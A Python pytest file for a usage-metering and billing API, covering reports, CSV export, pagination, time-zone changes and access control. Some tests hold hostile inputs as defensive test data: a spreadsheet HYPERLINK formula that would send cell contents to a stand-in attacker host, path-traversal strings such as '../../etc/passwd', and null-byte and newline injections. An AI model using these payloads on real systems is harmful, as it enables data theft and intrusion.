"""What was used, asked for through the function: one's own and nobody else's; and moving to another time zone."""

import csv
import io
import json
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from msgspec.structs import replace

from shared.accounts.account import Account
from shared.billing.account import ZONE_HOLDS
from shared.billing.metering import Interval, LedgerLine
from shared.gcp.store.accounts import account_ref
from shared.gcp.store.billing import billing_ref, line_ref, read_billing
from shared.gcp.store.database import Commit, read
from shared.gcp.store.ids import new_id
from shared.gcp.store.sessions import session_ref
from shared.sessions.session import EndReason, SessionState
from tests.functions.saving import saving
from tests.support.members.person import Person, call, problem
from tests.support.records.factories import a_session
from tests.support.stack.environment import environment
from tests.support.stack.observe import document
from tests.support.stack.running import Running

NOW = datetime(2026, 10, 24, 21, 0, tzinfo=UTC)
"""An hour before midnight in Berlin, on the eve of a day of 25 hours."""
MONTH = "2026-10"
PAGE_LINES, LINES = 200, 1_000
"""What one answer tells of, as the description says; and what somebody has."""


def usage(person: Person, month: str | None = None) -> dict[str, Any]:
    answer = person.get("usage" if month is None else f"usage?month={month}")
    assert answer.status_code == 200, answer.text
    found: dict[str, Any] = answer.json()
    return found


def moved(person: Person, zone: str) -> dict[str, Any]:
    answer = person.post("usage/zone", {"time_zone": zone})
    assert answer.status_code == 200, answer.text
    found: dict[str, Any] = answer.json()
    return found


def bid_of(bare_stack: Running, person: Person) -> str:
    person.post("login", {"time_zone": "Europe/Berlin", "locale": "de"}).raise_for_status()
    return str((document(bare_stack, f"accounts/{person.uid}") or {})["bid"])


def worked(bare_stack: Running, person: Person, minutes: float, bid: str | None = None) -> str:
    """The person has worked from NOW on, and stopped; the session's id."""
    sid = new_id("s-")
    ended = NOW + timedelta(minutes=minutes)
    session = a_session(SessionState.ENDED, sid=sid, uid=person.uid, opened=NOW, reason=EndReason.MEMBER)
    interval = Interval(NOW, ended)
    line = LedgerLine(
        sid=sid, n=0, wid="w-1", uid=person.uid, plan="free", period="2026-10-24", ms=interval.ms, background=False,
        intervals=[interval], at=ended,
    )  # fmt: skip
    with environment(bare_stack.env):
        commit = Commit().create(session_ref(sid), replace(session, ended=ended))
        commit.create(line_ref(bid or bid_of(bare_stack, person), line), line).run()
    return sid


def test_who_has_used_nothing_is_told_what_there_is(bare_stack: Running) -> None:
    person = Person(bare_stack, "newcomer")
    found = usage(person)
    assert (found["plan"], found["time_zone"]) == ({"name": "free", "title": "Free"}, "UTC")
    assert (found["periods"], found["days"], found["sessions"], found["next"]) == ([], [], [], None)
    current = found["current"]
    assert (current["granted"], current["used"], current["left"]) == (1800, 0, 1800)
    assert current["renews"] - current["starts"] == 86_400 and current["id"].startswith(found["month"])
    assert found["storage"] == {"used": 0, "limit": 100_000_000}


def test_the_first_login_brings_the_browsers_zone_and_no_later_one_changes_it(bare_stack: Running) -> None:
    person = Person(bare_stack, "traveller")
    bid_of(bare_stack, person)
    person.post("login", {"time_zone": "Pacific/Kiritimati", "locale": "en"}).raise_for_status()
    found = usage(person)
    assert (found["time_zone"], found["zone_holds_until"]) == ("Europe/Berlin", None)


def test_who_signs_in_is_told_what_is_left_and_what_lifts_it_once_nothing_is(bare_stack: Running) -> None:
    person = Person(bare_stack, "spender")
    bid, today = bid_of(bare_stack, person), usage(person)["current"]["id"]
    for used, left, lifted_by in ((60_000, 1740, None), (1_800_000, 0, "Starter")):
        with environment(bare_stack.env):
            billing = read_billing(bid)
            Commit().change(billing_ref(bid), billing, replace(billing.record, used={today: used})).run()
        allowance = person.me()["allowance"]
        assert (allowance["granted"], allowance["seconds"], allowance["lifted_by"]) == (1800, left, lifted_by)
        assert usage(person)["current"]["left"] == left


def test_a_session_is_told_while_it_is_open_and_when_it_has_ended(bare_stack: Running) -> None:
    person = Person(bare_stack, "worker")
    with saving(bare_stack, person) as saver:
        for _ in range(3):
            saver.liar.beat(restored=True, connected=True).raise_for_status()
        saver.save(1, saver.shelf.layer("work", {"a": b"first"}))
        meter = saver.liar.record["meter"]
        found = usage(person)
        [session] = found["sessions"]
        assert session["pending"] and session["ended"] is session["reason"] is session["decision"] is None
        for used in (session, *found["periods"], *found["days"]):
            assert round(used["seconds"] * 1000) == meter["ms"] > 0
        assert found["storage"]["used"] > 0
        assert found["current"]["used"] * 1000 == pytest.approx(meter["ms"])
        assert found["current"]["left"] == pytest.approx(1800 - meter["ms"] / 1000)
    [session] = usage(person)["sessions"]
    assert (session["session"], session["reason"]) == (saver.liar.session.sid, "member")
    assert (session["pending"], session["decision"]) == (False, "stopped by the member")
    assert session["seconds"] * 1000 == pytest.approx(saver.liar.record["meter"]["ms"])


def test_a_month_is_split_by_the_accounts_own_midnights(bare_stack: Running) -> None:
    person = Person(bare_stack, "berliner")
    worked(bare_stack, person, minutes=27 * 60)  # over two midnights, and the clocks go back between them
    found = usage(person, MONTH)
    assert {each["id"]: each["seconds"] / 3600 for each in found["days"]} == {
        "2026-10-24": 1, "2026-10-25": 25, "2026-10-26": 1,
    }  # fmt: skip
    assert [(each["id"], each["seconds"] / 3600) for each in found["periods"]] == [("2026-10-24", 27)]
    assert usage(person, "2026-09")["sessions"] == usage(person, "2026-11")["sessions"] == []


def test_the_table_has_the_sessions_and_the_zones_times(bare_stack: Running) -> None:
    person = Person(bare_stack, "bookkeeper")
    sid = worked(bare_stack, person, minutes=90)
    answer = person.get(f"usage/csv?month={MONTH}")
    assert (answer.status_code, answer.headers["Content-Type"]) == (200, "text/csv; charset=utf-8")
    assert answer.headers["Content-Disposition"] == 'attachment; filename="ondol-usage-2026-10.csv"'
    [row] = csv.DictReader(io.StringIO(answer.text, newline=""))
    assert (row["session"], row["seconds"], row["reason"]) == (sid, "5400.000", "member")
    assert (row["opened"], row["ended"]) == ("2026-10-24T23:00:00+02:00", "2026-10-25T00:30:00+02:00")
    assert person.get("usage/csv").text.count("\r\n") == 1, "this month there is only the header"


def test_a_long_month_is_told_in_pages_that_add_up_each_of_a_bounded_number_of_documents(bare_stack: Running) -> None:
    person = Person(bare_stack, "toiler")
    bid = bid_of(bare_stack, person)
    first, busy = worked(bare_stack, person, minutes=5), new_id("s-")
    with environment(bare_stack.env):
        line = _line(bid, first)
        for start in range(0, LINES, 500):
            commit = Commit()
            for n in range(start, start + 500):
                begun = NOW + timedelta(seconds=400 + n)
                short = Interval(begun, begun + timedelta(seconds=1))
                newer = replace(line, sid=busy, n=n, ms=1000, intervals=[short], at=short.until)
                commit.create(line_ref(bid, newer), newer)
            commit.run()
    pages = [usage(person, MONTH)]
    while pages[-1]["next"]:
        pages.append(usage(person, f"{MONTH}&after={pages[-1]['next']}"))
    assert [sum(each["seconds"] for each in page["sessions"]) for page in pages] == [PAGE_LINES] * 5 + [300]
    assert sum(day["seconds"] for page in pages for day in page["days"]) == LINES + 300
    assert [each["session"] for each in pages[-1]["sessions"]] == [first], (
        "the session before stands on a page of its own"
    )

    table, link = "", f"?month={MONTH}"
    while link:
        answer = person.get(f"usage/csv{link}")
        table, link = table + answer.text, answer.links["next"]["url"] if "next" in answer.links else ""
    rows = [*csv.DictReader(io.StringIO(table, newline=""))]
    assert {row["session"] for row in rows} == {first, busy}
    assert sum(float(row["seconds"]) for row in rows) == LINES + 300

    requests = (bare_stack.state / "logs" / "usage.log").read_text().splitlines()
    reads = [json.loads(line)["reads"] for line in requests if '"function": "monthly"' in line]
    assert max(reads) <= 2 * PAGE_LINES + 10
    for odd in ("x", "2026-10", "2026-10.", "2026-10.99999999999999999", "a" * 33):
        assert person.get(f"usage?month={MONTH}&after={odd}").status_code == 400, odd


def test_no_text_of_a_record_becomes_a_formula(bare_stack: Running) -> None:
    person = Person(bare_stack, "trickster")
    sid = worked(bare_stack, person, minutes=5)
    with environment(bare_stack.env):
        bid = bid_of(bare_stack, person)
        evil = replace(_line(bid, sid), n=1, plan='=HYPERLINK("http://evil.example/"&A1)')
        Commit().create(line_ref(bid, evil), evil).run()
    [row] = csv.DictReader(io.StringIO(person.get(f"usage/csv?month={MONTH}").text, newline=""))
    assert row["plan"] == '\'=HYPERLINK("http://evil.example/"&A1)'


def _line(bid: str, sid: str) -> LedgerLine:
    found = read(billing_ref(bid).collection("lines").document(f"{sid}-0"), LedgerLine)
    assert found
    return found.record


def test_members_of_a_shared_account_see_its_total_and_their_own_sessions(bare_stack: Running) -> None:
    owner, guest = Person(bare_stack, "who-shares"), Person(bare_stack, "guest")
    bid = bid_of(bare_stack, owner)
    bid_of(bare_stack, guest)
    today = usage(owner)["current"]["id"]
    with environment(bare_stack.env):
        joined = read(account_ref(guest.uid), Account)
        billing = read_billing(bid)
        assert joined
        Commit().change(account_ref(guest.uid), joined, replace(joined.record, bid=bid)).run()
        Commit().change(billing_ref(bid), billing, replace(billing.record, used={today: 60_000})).run()
    own = {person.uid: worked(bare_stack, person, minutes=5, bid=bid) for person in (owner, guest)}
    for person, other in ((owner, guest), (guest, owner)):
        found = usage(person, MONTH)
        assert [each["session"] for each in found["sessions"]] == [own[person.uid]]
        assert found["current"]["used"] == 60
        for answer in (person.get(f"usage?month={MONTH}"), person.get(f"usage/csv?month={MONTH}")):
            assert own[other.uid] not in answer.text and other.uid not in answer.text
    refused = guest.post("usage/zone", {"time_zone": "Asia/Seoul"})
    assert (refused.status_code, problem(refused)) == (403, "forbidden")
    assert usage(owner)["time_zone"] == "Europe/Berlin"


def test_somebody_else_sees_nothing_whatever_they_ask(bare_stack: Running) -> None:
    victim, stranger = Person(bare_stack, "victim"), Person(bare_stack, "stranger-to-usage")
    sid, bid = worked(bare_stack, victim, minutes=5), bid_of(bare_stack, victim)
    assert usage(stranger, MONTH)["sessions"] == []
    for more in (f"uid={victim.uid}", f"bid={bid}", f"session={sid}"):
        for function in ("usage", "usage/csv"):
            answer = stranger.get(f"{function}?month={MONTH}&{more}")
            assert (answer.status_code, problem(answer)) == (400, "bad-request")
    assert stranger.post("usage/zone", {"time_zone": "Asia/Seoul", "bid": bid}).status_code == 400


@pytest.mark.parametrize("token", [None, "", "Bearer x.y.z", "Basic Zm9v"])
def test_nobody_asks_without_signing_in(bare_stack: Running, token: str | None) -> None:
    headers = {"Authorization": token} if token is not None else {}
    for route, method in (("usage", "get"), ("usage/csv", "get"), ("usage/zone", "post")):
        answer = call(bare_stack, route, {}, headers, method=method)
        assert (answer.status_code, problem(answer)) == (401, "not-signed-in")


@pytest.mark.parametrize(
    "month",
    ["", "2026", "2026-13", "2026-00", "2026-1", "2026-11-23", "2026-11%0A", "../x", "2026-11 ", "%00", "٢٠٢٦-11"],
)
def test_a_month_that_is_none_is_told_how_to_be_sent(bare_stack: Running, month: str) -> None:
    person = Person(bare_stack, "with-an-odd-month")
    for function in ("usage", "usage/csv"):
        answer = person.get(f"{function}?month={month}")
        assert (answer.status_code, problem(answer)) == (400, "bad-request")
        assert "month" in answer.json()["detail"] and "2026-11" in answer.json()["detail"]
    assert usage(person, "0000-01")["sessions"] == usage(person, "9999-12")["sessions"] == []


def test_who_moves_is_told_when_they_may_again_and_not_before(bare_stack: Running) -> None:
    person = Person(bare_stack, "mover")
    bid = bid_of(bare_stack, person)
    first = moved(person, "Asia/Seoul")
    assert usage(person)["zone_holds_until"] == first["zone_holds_until"]
    assert moved(person, "Asia/Seoul") == first
    refused = person.post("usage/zone", {"time_zone": "UTC"})
    assert (refused.status_code, problem(refused)) == (403, "too-soon")
    assert 0 < int(refused.headers["Retry-After"]) <= ZONE_HOLDS.total_seconds()
    with environment(bare_stack.env):
        found = read_billing(bid)
        assert found.record.zone_changed
        earlier = replace(found.record, zone_changed=found.record.zone_changed - ZONE_HOLDS)
        Commit().change(billing_ref(bid), found, earlier).run()
    assert moved(person, "UTC")["time_zone"] == "UTC"
    # a login never changes it
    person.post("login", {"time_zone": "America/New_York", "locale": "en"}).raise_for_status()
    assert usage(person)["time_zone"] == "UTC"


@pytest.mark.parametrize("zone", ["", "Mars/Olympus", "../../etc/passwd", "localtime", "right/UTC", 5, None, "A" * 65])
def test_where_nobody_can_live_nobody_moves(bare_stack: Running, zone: Any) -> None:
    person = Person(bare_stack, "lost")
    answer = person.post("usage/zone", {"time_zone": zone})
    assert (answer.status_code, problem(answer)) == (400, "bad-request")


@pytest.mark.once
def test_of_many_moves_at_once_one_is_made(bare_stack: Running) -> None:
    person = Person(bare_stack, "hasty")
    bid_of(bare_stack, person)
    zones = ["Asia/Seoul", "UTC", "Asia/Tokyo", "America/New_York", "Pacific/Kiritimati", "Pacific/Pago_Pago"]
    with ThreadPoolExecutor(len(zones)) as pool:
        answers = list(pool.map(lambda zone: person.post("usage/zone", {"time_zone": zone}), zones))
    [won] = [zone for zone, answer in zip(zones, answers, strict=True) if answer.status_code == 200]
    assert usage(person)["time_zone"] == won
    assert {problem(answer) for answer in answers if answer.status_code != 200} <= {"too-soon", "too-busy"}


def test_a_deleted_account_hears_that_it_is_and_a_suspended_one_still_sees_its_use(bare_stack: Running) -> None:
    leaver, bad = Person(bare_stack, "leaver"), Person(bare_stack, "bad")
    bid_of(bare_stack, leaver)
    worked(bare_stack, bad, minutes=5)
    with environment(bare_stack.env):
        for person, state in ((leaver, "deleted"), (bad, "suspended")):
            found = read(account_ref(person.uid), Account)
            assert found
            Commit().change(account_ref(person.uid), found, replace(found.record, state=state)).run()
    for answer in (leaver.get("usage"), leaver.get("usage/csv"), leaver.post("usage/zone", {"time_zone": "UTC"})):
        assert (answer.status_code, problem(answer)) == (403, "account-closed")
    assert len(usage(bad, MONTH)["sessions"]) == 1
    assert problem(bad.post("usage/zone", {"time_zone": "UTC"})) == "account-suspended"
